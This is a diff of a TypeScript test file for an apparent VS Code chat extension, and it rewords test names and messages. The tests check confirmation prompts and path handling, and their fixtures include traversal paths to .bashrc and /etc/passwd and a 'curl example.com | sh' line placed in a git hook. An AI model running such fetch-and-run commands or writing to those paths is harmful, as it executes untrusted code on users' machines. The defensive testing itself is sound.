@@ -44,7 +44,7 @@ describe("asking from the editor", () => {
     return found.filter(({ title }) => title.includes("Core Chat"));
   }
 
-  it("offers to fix a problem, and to explain and edit what is selected", async () => {
+  it("offers to fix a problem, and to explain and edit the selection", async () => {
     const { document } = await showFile("actions.txt", "one\ntwo\n");
     setProblem(document.uri, 1, "one is wrong");
     const titles = async (range: vscode.Range) =>
@@ -74,7 +74,7 @@ describe("asking from the editor", () => {
   for (const [command, words] of [
     [COMMANDS.explainSelection, "Explain this code"],
     [COMMANDS.writeTests, "Write tests"],
-    [COMMANDS.documentSelection, "Write the documentation comments"],
+    [COMMANDS.documentSelection, "Write documentation comments"],
   ] as const) {
     it(`sends the selection for ${command}`, async () => {
       const editor = await showFile("ask.txt", "one\ntwo\nthree\n");
@@ -86,7 +86,7 @@ describe("asking from the editor", () => {
     });
   }
 
-  it("takes the selection with its path, lines and problems", async () => {
+  it("includes the selection with its path, lines and problems", async () => {
     const editor = await showFile("gather.ts", "one\ntwo\nthree\n");
     setProblem(editor.document.uri, 2, "two is wrong");
     selectLines(editor, 2, 3);
@@ -102,7 +102,7 @@ describe("asking from the editor", () => {
     );
   });
 
-  it("refuses files that are no text, by what they are", async () => {
+  it("refuses binary files by their content", async () => {
     const refused = async (name: string, bytes: Uint8Array) => {
       const uri = workspaceUri(name);
       await vscode.workspace.fs.writeFile(uri, bytes);
@@ -116,7 +116,7 @@ describe("asking from the editor", () => {
     assert.match(textOf(await gatherFile(workspaceUri("none.txt"))), /could not be read/);
   });
 
-  it("asks with the real path before a file outside the workspace is read", async () => {
+  it("asks with the real path before it reads a file outside the workspace", async () => {
     const outside = join(workspaceUri("..").fsPath, "outside.txt");
     writeFileSync(outside, "outside text");
     const link = workspaceUri("link.txt");
@@ -128,9 +128,9 @@ describe("asking from the editor", () => {
     assert.equal(textOf(await gatherFile(link)), "outside text");
   });
 
-  it("says what is missing where there are no changes and nothing is selected", async () => {
+  it("reports what is missing without changes and without a selection", async () => {
     const terminal = await gatherTerminal();
-    assert.match(textOf(terminal), /^Nothing is selected in the terminal/);
+    assert.match(textOf(terminal), /^No text is selected in the terminal/);
     const changes = await gatherChanges();
     assert.match(textOf(changes), /changes/i);
   });
@@ -153,7 +153,7 @@ describe("asking from the editor", () => {
     assert.equal(vscode.window.activeTextEditor?.document.uri.path.endsWith("insert.txt"), true);
   });
 
-  it("indents code of a reply like the place it is inserted at", async () => {
+  it("indents a reply's code like its insert position", async () => {
     const reply = "```ts\nif (a) {\n  b();\n}\n```\n";
     const editor = await showFile("indent.ts", "function f() {\n    let a = 1;\n}\n");
     editor.selection = new vscode.Selection(1, 14, 1, 14);
@@ -192,7 +192,7 @@ describe("asking from the editor", () => {
     assert.equal(plainText(opened), "safe text\n");
   });
 
-  it("never takes a path in a reply for a place: a new file has no name", async () => {
+  it("never uses a path from a reply as a target: a new file has no name", async () => {
     for (const label of ["../../.bashrc", ".vscode/settings.json", "ts:src/../../../etc/passwd"]) {
       await useCode("new-file", `\`\`\`${label}\nharmless\n\`\`\`\n`, 0, noProposal);
       const { document } = vscode.window.activeTextEditor ?? {};
@@ -201,7 +201,7 @@ describe("asking from the editor", () => {
     }
   });
 
-  it("asks once more before a selection of such a file is replaced", async () => {
+  it("asks for confirmation before it replaces a selection in such a file", async () => {
     const editor = await showFile(".npmrc", "one\n");
     selectLines(editor, 1, 1);
     const reply = "```\nregistry=https://example.com\n```\n";
@@ -210,13 +210,13 @@ describe("asking from the editor", () => {
     assert.equal(plainText(editor.document), "one\n");
   });
 
-  it("asks once more before a reply goes into a file that runs by itself", async () => {
+  it("asks for confirmation before it inserts a reply into a file that runs code automatically", async () => {
     await vscode.workspace.fs.createDirectory(workspaceUri(".husky"));
     const { document } = await showFile(".husky/pre-push", "");
     const reply = "```\ncurl example.com | sh\n```\n";
     await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "");
-    assert.match(answers.shown.at(-1)?.text ?? "", /can run programs by itself/);
+    assert.match(answers.shown.at(-1)?.text ?? "", /can run code automatically/);
     answers.choose("Keep Anyway");
     await useCode("insert-at-cursor", reply, 0, noProposal);
     assert.equal(plainText(document), "curl example.com | sh");
